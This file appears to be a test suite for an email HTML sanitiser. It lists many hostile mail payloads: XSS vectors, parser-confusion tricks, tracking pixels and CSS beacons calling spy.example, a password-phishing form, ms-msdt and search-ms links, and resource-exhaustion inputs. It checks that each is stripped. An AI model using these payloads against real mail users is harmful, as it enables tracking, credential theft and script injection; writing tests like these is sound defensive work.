import { parseFragment, type DefaultTreeAdapterTypes } from 'parse5';
import { describe, expect, test } from 'vitest';
import { cleanHtml, textAsHtml } from '../../../server/mail/cleanHtml.ts';
import { htmlAsText } from '../../../server/mail/htmlAsText.ts';
import { hostileMarkup } from '../../helpers/hostileMarkup.ts';

/** What mails add to what has been tried against sanitisers: pictures that tell who has read them, styles, programs that only mail readers know. */
const hostileMails: readonly string[] = [
  '<img src="http://spy.example/pixel.gif?who=42" width=1 height=1>',
  '<img src="//spy.example/p.gif">',
  '<img src="https://spy.example/a.png" srcset="https://spy.example/b.png 2x">',
  '<img srcset="https://spy.example/b.png 1x">',
  '<img src="ht\ntps://spy.example/x.png">',
  '<img src=" \u0001https://spy.example/x.png">',
  '<img src="cid:missing">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9aGl0KCk+">',
  '<img src="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">',
  '<img src="file:///etc/passwd">',
  '<img lowsrc="https://spy.example/x.png" dynsrc="https://spy.example/y.avi">',
  '<input type=image src="https://spy.example/x.png">',
  '<picture><source srcset="https://spy.example/x.png"><img src="https://spy.example/y.png"></picture>',
  '<body background="https://spy.example/bg.png">',
  '<table background="https://spy.example/bg.png"><tr><td background="//spy.example/c.png">x</td></tr></table>',
  '<div style="background:url(https://spy.example/x.png)">x</div>',
  '<div style="background-image:url(\'//spy.example/x.png\')">x</div>',
  '<div style="background:\\75rl(https://spy.example/x.png)">x</div>',
  '<div style="background:u/**/rl(https://spy.example/x.png)">x</div>',
  '<div style="background:image-set(\'https://spy.example/x.png\' 1x)">x</div>',
  '<div style="list-style:url(https://spy.example/x.png)">x</div>',
  '<div style="content:attr(x);cursor:url(https://spy.example/x.cur),auto">x</div>',
  '<div style="width:expression(hit())">x</div>',
  '<div style="behavior:url(#default#time2)">x</div>',
  '<div style="-moz-binding:url(https://spy.example/x.xml#y)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">sign in again</div>',
  '<div style="color:red;}body{display:none">x</div>',
  '<div style="color:red</style><script>hit()</script>">x</div>',
  "<div style=\"font-family:x''};@import 'https://spy.example/x.css'\">x</div>",
  '<div style="color:var(--x,url(https://spy.example/x))">x</div>',
  '<style>@font-face{font-family:x;src:url(https://spy.example/x.woff)}</style><p>x</p>',
  '<style>a[href^="https://bank"]{background:url(https://spy.example/x)}</style>',
  '<link rel="stylesheet" href="https://spy.example/x.css"><link rel="prefetch" href="https://spy.example/y">',
  '<meta http-equiv="refresh" content="0;url=https://spy.example">',
  '<meta http-equiv="Set-Cookie" content="a=b"><base href="https://spy.example/"><a href="pay">pay</a>',
  '<a href="javascript:hit()">x</a>',
  '<a href="&#106;avascript:hit()">x</a>',
  '<a href="java&Tab;script:hit()">x</a>',
  '<a href=" \u0000javascript:hit()">x</a>',
  '<a href="vbscript:hit()">x</a>',
  '<a href="data:text/html,<script>hit()</script>">x</a>',
  '<a href="blob:https://x/y">x</a>',
  '<a href="file://server/share/x.exe">x</a>',
  '<a href="ms-msdt:/id PCWDiagnostic">x</a>',
  '<a href="search-ms:query=x&crumb=location:\\\\spy.example">x</a>',
  '<a href="//spy.example">x</a>',
  '<a href="/mail/mail/mail/v1/remove?ids=1">x</a>',
  '<a href="https://bank.example@spy.example/">x</a>',
  '<a href="https:\\\\spy.example">x</a>',
  '<a href="https://x.example/" ping="https://spy.example/" target="_top" download>x</a>',
  '<a href="https://x.example/" onclick="hit()" style="position:absolute">x</a>',
  '<a name="login" id="user" class="ant-btn">x</a><form id="attributes"><input name="parentNode"></form>',
  '<form action="https://spy.example/" method=post><input name=password type=password><button>Sign in</button></form>',
  '<button formaction="javascript:hit()">x</button><isindex action="javascript:hit()">',
  '<object data="https://spy.example/x.swf" type="application/x-shockwave-flash"></object><applet code=x></applet>',
  '<embed src="https://spy.example/x.pdf"><iframe src="https://spy.example/"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<video autoplay src="https://spy.example/x.mp4" poster="https://spy.example/x.png"></video><audio src="https://spy.example/x.mp3">',
  '<bgsound src="https://spy.example/x.wav"><layer src="https://spy.example/x">',
  '<svg><image href="https://spy.example/x.png"/><feImage href="https://spy.example/y.png"/></svg>',
  '<svg><set attributeName="onmouseover" to="hit()"/><handler xmlns:ev="x" ev:event="load">hit()</handler></svg>',
  '<svg><style>*{fill:url(https://spy.example/x)}</style><script href="https://spy.example/x.js"/></svg>',
  '<math href="javascript:hit()"><mtext>x</mtext><maction actiontype="statusline#https://spy.example">x</maction></math>',
  '<!--[if mso]><script>hit()</script><v:imagedata src="https://spy.example/x.png"/><![endif]-->',
  '<!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]--><v:rect><v:fill src="https://spy.example/x.png"/></v:rect>',
  '<div><div><title><img src="</title><img src=x onerror=hit()>">',
  '<textarea></textarea><img src=x onerror=hit()></textarea>',
  '<noembed><img src="</noembed><img src=x onerror=hit()>"></noembed>',
  '<xmp><p title="</xmp><img src=x onerror=hit()>"></xmp>',
  '<plaintext><img src=x onerror=hit()>',
  '<template><style></template><img src=x onerror=hit()></style>',
  '<select><style></select><img src=x onerror=hit()></style></select>',
  '<p title="`onmouseover=hit()`">x</p>',
  '<img alt="``onerror=hit()" src="x">',
  '<b a="\'><img src=x onerror=hit()>">x</b>',
  `${'<div>'.repeat(20_000)}<img src=x onerror=hit()>`,
  `${Array.from({ length: 3_000 }, (_, at) => `<font size=${at}>`).join('')}${'<p>'.repeat(3_000)}x`,
  `<p ${'a '.repeat(50_000)}onclick=hit()>x</p>`,
  `<img src="${'x'.repeat(200_000)}" onerror=hit()>`,
  '\u0000<scr\u0000ipt>hit()</scr\u0000ipt><img src=x one\u0000rror=hit()>',
  '<\u00A0script>hit()</script><ſcript>hit()</ſcript><ımg src=x>',
  '+ADw-script+AD4-hit()+ADw-/script+AD4-',
  '\u001b$B<script>hit()</script>\u001b(B',
];

describe('what a mail holds runs nothing, asks nobody and covers nothing', () => {
  test.each([...hostileMails, ...hostileMarkup].map((markup, at) => [at, markup.slice(0, 60), markup] as const))('%i %s', (_at, _name, markup) => {
    const { html } = cleanHtml(markup);
    expect(problemsOf(html)).toEqual([]);
    // nothing is left that a second look would change, so no way of reading it makes more of it
    expect(cleanHtml(html).html).toBe(html);
  });
});

describe('what is harmless stays', () => {
  test.each<[name: string, markup: string, expected: string]>([
    ['formatting', '<p>一 <b>二</b><br>三</p>', '<p>一 <b>二</b><br>三</p>'],
    ['a table', '<table border=1><tr><td colspan="2">x</td></tr></table>', '<table border="1"><tr><td colspan="2">x</td></tr></table>'],
    ['a style', '<p style="color: red; font-size:12px">x</p>', '<p style="color:red;font-size:12px">x</p>'],
    ['a colour in figures', '<p style="color:rgb(1, 2, 3)">x</p>', '<p style="color:rgb(1, 2, 3)">x</p>'],
    [
      'a link',
      '<a href="https://a.example/x?y=1&z=2">x</a>',
      '<a href="https://a.example/x?y=1&amp;z=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    ],
    ['a mail address', '<a href="mailto:a@b.example">x</a>', '<a href="mailto:a@b.example" target="_blank" rel="noopener noreferrer nofollow">x</a>'],
    ['signs that look like markup', '1 &lt; 2 &amp; 3 > 2', '1 &lt; 2 &amp; 3 &gt; 2'],
    ['what is not closed', '<div><p>x', '<div><p>x</p></div>'],
    ['text of unknown elements', '<article><custom-x>x</custom-x></article>', 'x'],
  ])('%s', (_name, markup, expected) => {
    expect(cleanHtml(markup).html).toBe(expected);
  });

  test('a picture of the mail itself is put in, one of another server is counted', () => {
    const { html, blocked, asked } = cleanHtml('<img src="cid:a@x"><img src="https://spy.example/p"><p style="background:url(//spy.example)">x</p>', {
      picture: (id) => (id === 'a@x' ? 'data:image/png;base64,AAAA' : undefined),
    });
    expect(html).toBe('<img src="data:image/png;base64,AAAA"><img><p>x</p>');
    expect({ blocked, asked }).toEqual({ blocked: 2, asked: ['a@x'] });
  });
});

describe('what would take time or memory', () => {
  test('a picture stands as often as there is room for it', () => {
    const picture = `data:image/png;base64,${'A'.repeat(1024 * 1024)}`;
    const { html } = cleanHtml('<img src="cid:a%40x">'.repeat(300), { picture: (id) => (id === 'a@x' ? picture : undefined) });
    expect(html.split(picture)).toHaveLength(10);
    expect(html.match(/<img/g)).toHaveLength(300);
  });

  test('what stands behind an element with more attributes than anybody writes is there', () => {
    const many = Array.from({ length: 180_000 }, (_, at) => `a${at}`).join(' ');
    expect(cleanHtml(`<p>before</p><p ${many}>behind</p>`).html).toBe('<p>before</p><p>behind</p>');
    const some = Array.from({ length: 400 }, (_, at) => `a${at}=${'x'.repeat(20)}`).join(' ');
    expect(cleanHtml(`<p>before</p><p ${some} align=left>behind</p>`).html).toBe('<p>before</p><p align="left">behind</p>');
  });

  test.each([
    ['<p constructor=x>a</p>', '<p>a</p>'],
    ['<p __proto__=x toString=y>a</p>', '<p>a</p>'],
    ['<constructor>a</constructor>', 'a'],
    ['<hasownproperty>a', 'a'],
    ['<a href="https://a\u200bb.example/">a</a><a href="https://\u202eexample/">b</a>', `${link('a')}${link('b')}`],
  ])('%s is what it is', (markup, expected) => {
    expect(cleanHtml(markup).html).toBe(expected);
  });

  test('text in pieces is read as a whole', () => {
    const words = Array.from({ length: 5_000 }, (_, at) => `<b title="甲&amp;${at}">𠮷&lt;${at}</b>`).join('');
    expect(cleanHtml(words).html).toBe(words);
  });

  test('blanks at the end of lines go in one pass', () => {
    expect(htmlAsText(`<p>a${' '.repeat(1_000_000)}b</p><p>c \t </p>`).replace(/ {2,}/, '…')).toBe('a…b\n\nc');
  });
});

test('plain text is shown as it is', () => {
  expect(textAsHtml('<b>a</b>\n&')).toBe('<div style="white-space:pre-wrap">&lt;b&gt;a&lt;/b&gt;\n&amp;</div>');
  expect(htmlAsText('<p>a &lt; b</p><ul><li>c</li></ul>')).toBe('a < b\n\nc');
});

// helpers

const allowedAttributes =
  /^(href|target|rel|src|style|align|valign|dir|width|height|border|cellpadding|cellspacing|colspan|rowspan|start|size|color|bgcolor|face|title|alt)$/;
const allowedElements =
  /^(a|abbr|b|big|blockquote|br|center|code|dd|del|div|dl|dt|em|font|h[1-6]|hr|i|img|ins|li|ol|p|pre|s|small|span|strike|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|u|ul)$/;

/** Everything in the answer, as the standard reads it, that is not known to be harmless. */
function problemsOf(html: string): string[] {
  const found: string[] = [];
  const waiting: DefaultTreeAdapterTypes.Node[] = [...parseFragment(html).childNodes];
  for (let node = waiting.pop(); node !== undefined; node = waiting.pop()) {
    if (node.nodeName === '#comment') found.push('comment');
    if (!('tagName' in node)) continue;
    if (!allowedElements.test(node.tagName) || node.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(node.tagName);
    for (const { name, value } of node.attrs) {
      if (!allowedAttributes.test(name)) found.push(`${node.tagName} ${name}`);
      if (name === 'href' && !/^(https?:\/\/[^/@\\]+(\/|\?|#|$)|mailto:)/i.test(value)) found.push(`href ${value}`);
      if (name === 'src' && !/^data:image\/(png|jpeg|jpg|gif|webp);base64,/i.test(value)) found.push(`src ${value}`);
      if (name === 'style' && /url|expression|import|position|[\\@{}<]|var\(|behavior|binding/i.test(value)) found.push(`style ${value}`);
    }
    waiting.push(...node.childNodes);
  }
  return found;
}

/** One without an address. */
function link(text: string): string {
  return `<a target="_blank" rel="noopener noreferrer nofollow">${text}</a>`;
}
